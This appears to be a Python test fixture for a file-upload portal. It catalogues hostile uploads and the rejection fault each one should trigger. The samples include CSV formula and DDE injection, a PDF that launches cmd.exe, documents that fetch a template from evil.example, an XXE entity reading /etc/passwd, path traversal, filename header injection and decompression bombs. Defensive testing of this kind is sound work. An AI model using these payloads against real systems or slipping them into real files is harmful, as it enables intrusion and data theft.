"""Hostile files (B12): what is sent, and why it is refused or what is left of it."""

from collections.abc import Callable

from portal.store.files import Fault
from tests.files.make import (
    PAGE,
    SECRET,
    archive,
    between,
    document,
    encrypted,
    lying,
    moving,
    outside,
    overlapping,
    packed_objects,
    pdf,
    picture,
    png_of,
    scans,
    symlink,
    workbook,
)

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
EVIL = "document.xml"
# What is sent: its name, its bytes, and why it is refused (None: taken, made harmless).
Hostile = tuple[str, Callable[[], bytes], Fault | None]
HOSTILE: dict[str, Hostile] = {
    # Kinds that are not taken, whatever is in them.
    "SVG with a script": ("logo.svg", lambda: b"<svg onload='alert(1)'/>", Fault.KIND),
    "page": ("offer.html", lambda: PAGE, Fault.KIND),
    "XML": ("data.xml", lambda: b"<a/>", Fault.KIND),
    "program": ("setup.exe", lambda: b"MZ" + bytes(200), Fault.KIND),
    "GIF that is a script": ("a.gif", lambda: b"GIF89a/*x*/=1;alert(1)//", Fault.KIND),
    "workbook with macros": ("book.xlsm", workbook, Fault.KIND),
    "old Office": ("book.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), Fault.KIND),
    "archive": ("all.zip", lambda: archive(("a.txt", b"a")), Fault.KIND),
    "no ending": ("README", lambda: b"text", Fault.KIND),
    "data stream": ("a.pdf::$DATA", pdf, Fault.KIND),
    # Names that deceive.
    "double ending": ("invoice.exe.pdf", pdf, Fault.NAME),
    "double ending of a server": ("shell.php.png", picture, Fault.NAME),
    "turned reading direction": ("anna\u202efdp.txt", lambda: b"text", Fault.NAME),
    "line break in the name": ("a\r\nSet-Cookie: x=1.pdf", pdf, Fault.NAME),
    "NUL in the name": ("a.php\0.pdf", pdf, Fault.NAME),
    "path": ("../../etc/cron.d/job.txt", lambda: b"text", None),
    "path of Windows": ("C:\\Users\\x\\a.txt", lambda: b"text", None),
    "device": ("CON.txt", lambda: b"text", None),
    "quotes": ('a"; filename="b.exe.txt', lambda: b"text", Fault.NAME),
    "five hundred letters": ("ñ" * 500 + ".txt", lambda: b"text", None),
    # What is in the file is not what its ending says.
    "empty": ("a.pdf", lambda: b"", Fault.EMPTY),
    "page called PDF": ("a.pdf", lambda: PAGE, Fault.NOT_WHAT_IT_SAYS),
    "page called PNG": ("a.png", lambda: PAGE, Fault.NOT_WHAT_IT_SAYS),
    "program called text": ("a.txt", lambda: b"MZ\x90\0\3" + bytes(200), Fault.NOT_WHAT_IT_SAYS),
    "PDF called text": ("a.txt", pdf, Fault.NOT_WHAT_IT_SAYS),
    "JPEG called PNG": ("a.png", lambda: picture("JPEG"), Fault.NOT_WHAT_IT_SAYS),
    "workbook called document": ("a.docx", workbook, Fault.NOT_WHAT_IT_SAYS),
    "archive called workbook": (
        "a.xlsx", lambda: archive(("a.txt", b"a")), Fault.NOT_WHAT_IT_SAYS
    ),
    "page called text": ("a.txt", lambda: b" \n" + PAGE, Fault.ACTIVE),
    "page after text": ("a.txt", lambda: b"Hello\n" + PAGE, Fault.ACTIVE),
    "page in UTF-16": ("a.csv", lambda: PAGE.decode().encode("utf-16"), Fault.ACTIVE),
    "formula": ("a.csv", lambda: b"name;sum\nx;=HYPERLINK(\"http://a\")\n", Fault.ACTIVE),
    "DDE in a table": ("a.csv", lambda: b"name\n-2+3+cmd|' /C calc'!A0\n", Fault.ACTIVE),
    # Two things at once.
    "PDF that is an archive": (
        "a.pdf", lambda: pdf(tail=archive(("a.html", PAGE))), Fault.NOT_WHAT_IT_SAYS
    ),
    "PDF with an archive before its end": (
        "a.pdf", lambda: pdf(archive(("a.html", PAGE))), Fault.ACTIVE
    ),
    "PDF that is a page": ("a.pdf", lambda: pdf(PAGE), Fault.ACTIVE),
    "archive before a PDF": ("a.pdf", lambda: b"x" * 20 + pdf(), Fault.NOT_WHAT_IT_SAYS),
    "PNG with a page behind": ("a.png", lambda: picture() + PAGE + SECRET, None),
    "JPEG with an archive behind": (
        "a.jpg", lambda: picture("JPEG") + archive(("a.html", SECRET)), None
    ),
    "JPEG with a page in its comment": (
        "a.jpg", lambda: picture("JPEG", comment=PAGE + SECRET), None
    ),
    "document with a page behind": ("a.docx", lambda: document() + PAGE, Fault.NOT_WHAT_IT_SAYS),
    "document with a page before": ("a.docx", lambda: PAGE + document(), Fault.NOT_WHAT_IT_SAYS),
    "document with a page within": ("a.docx", between, Fault.NOT_WHAT_IT_SAYS),
    # What runs when it is opened.
    "PDF with a script": ("a.pdf", lambda: pdf(b"3 0 obj<</S/JavaScript/JS(x)>>endobj"), Fault.ACTIVE),
    "PDF with a script written oddly": (
        "a.pdf", lambda: pdf(b"3 0 obj<</S/J#61vaScript/#4aS(x)>>endobj"), Fault.ACTIVE
    ),
    "PDF with a packed script": (
        "a.pdf", lambda: packed_objects(b"3 0 <</S/JavaScript/JS(x)>>"), Fault.ACTIVE
    ),
    "PDF that starts a program": (
        "a.pdf", lambda: pdf(b"3 0 obj<</S/Launch/F(cmd.exe)>>endobj"), Fault.ACTIVE
    ),
    "PDF with a file inside": ("a.pdf", lambda: pdf(b"3 0 obj<</EmbeddedFiles 4 0 R>>"), Fault.ACTIVE),
    "locked PDF": ("a.pdf", lambda: pdf(b"3 0 obj<</Encrypt 4 0 R>>"), Fault.LOCKED),
    "cut PDF": ("a.pdf", lambda: pdf()[:-12], Fault.UNREADABLE),
    "document with macros": (
        "a.docx", lambda: document(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")), Fault.ACTIVE
    ),
    "document of a macro type": (
        "a.docx",
        lambda: document(types='<Default Extension="x" ContentType="application/vnd.ms-word.'
                         'document.macroEnabled.main+xml"/>'),
        Fault.ACTIVE,
    ),
    "document with an object": (
        "a.docx", lambda: document(("word/embeddings/oleObject1.bin", b"x")), Fault.ACTIVE
    ),
    "document that fetches a template": (
        "a.docx",
        lambda: document(rels=outside("attachedTemplate", "https://evil.example/t.dotm")),
        Fault.ACTIVE,
    ),
    "document that fetches a picture": (
        "a.docx", lambda: document(rels=outside("image", "file://evil.example/x")), Fault.ACTIVE
    ),
    "document with a script as link": (
        "a.docx", lambda: document(rels=outside("hyperlink", "javascript:alert(1)")), Fault.ACTIVE
    ),
    "document with DDE in pieces": (
        "a.docx",
        lambda: document(body="<w:r><w:instrText>DD</w:instrText></w:r>"
                         "<w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r>"),
        Fault.ACTIVE,
    ),
    "billion laughs": (
        "a.docx",
        lambda: document(head='<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'),
        Fault.ACTIVE,
    ),
    "outside entity": (
        "a.docx",
        lambda: document(head='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', body="&a;"),
        Fault.ACTIVE,
    ),
    # What unpacks to more than it is, or elsewhere.
    "dense archive": (
        "a.docx", lambda: document((f"word/{EVIL}.xml", b" " * 20_000_000)), Fault.UNPACKED
    ),
    "large archive": (
        "a.docx",
        lambda: document(*((f"word/{n}.dat", bytes(range(256)) * 4 * 4096) for n in range(13))),
        Fault.UNPACKED,
    ),
    "thousand and one parts": (
        "a.docx", lambda: document(*((f"word/{n}.xml", "<a/>") for n in range(1_001))), Fault.UNPACKED
    ),
    "parts that overlap": ("a.docx", overlapping, Fault.NOT_WHAT_IT_SAYS),
    "part that lies about its size": ("a.docx", lying, Fault.UNREADABLE),
    "locked document": ("a.docx", encrypted, Fault.LOCKED),
    "part outside": ("a.docx", lambda: document(("../../evil.xml", "<a/>")), Fault.ACTIVE),
    "symbolic link": ("a.docx", symlink, Fault.ACTIVE),
    "image of four hundred million pixels": ("a.png", lambda: png_of(20_000, 20_000), Fault.PIXELS),
    "image of 41 million pixels": ("a.png", lambda: png_of(8_200, 5_000), Fault.PIXELS),
    "image that ends early": ("a.png", lambda: png_of(500, 500), Fault.UNREADABLE),
    "JPEG of many scans": ("a.jpg", scans, Fault.UNREADABLE),
    "moving PNG": ("a.png", lambda: moving("PNG"), Fault.ANIMATED),
    "moving WebP": ("a.webp", lambda: moving("WEBP"), Fault.ANIMATED),
    "noise called WebP": ("a.webp", lambda: b"RIFF\x10\0\0\0WEBPVP8 " + bytes(40), Fault.UNREADABLE),
    "one byte too many": ("a.txt", lambda: b"a" * (10 * 1024 * 1024 + 1), Fault.TOO_LARGE),
    # Not searched for, and kept as what it is: text.
    "EICAR": ("a.txt", lambda: EICAR, None),
}  # fmt: skip
PLAIN: dict[str, tuple[str, Callable[[], bytes]]] = {
    "PDF": ("contrato v1.2.pdf", pdf),
    "PDF with packed objects": ("a.pdf", lambda: packed_objects(b"3 0 <</Type/Pages>>")),
    "PNG": ("a.png", picture),
    "JPEG": ("a.JPG", lambda: picture("JPEG")),
    "progressive JPEG": ("a.jpeg", lambda: picture("JPEG", progressive=True)),
    "WebP": ("a.webp", lambda: picture("WEBP")),
    "CSV": ("a.csv", lambda: b"name;sum\nx;-3\ny;+1 (720) 555-0102\n"),
    "CSV of Windows": ("a.csv", lambda: "Señor;año\n".encode("cp1252")),
    "text in UTF-16": ("a.txt", lambda: "Señor: 1 < 2 & 3 > 2".encode("utf-16")),
    "workbook": ("a.xlsx", workbook),
    "document": ("a.docx", lambda: document(rels=outside("hyperlink", "https://example.com/"))),
}
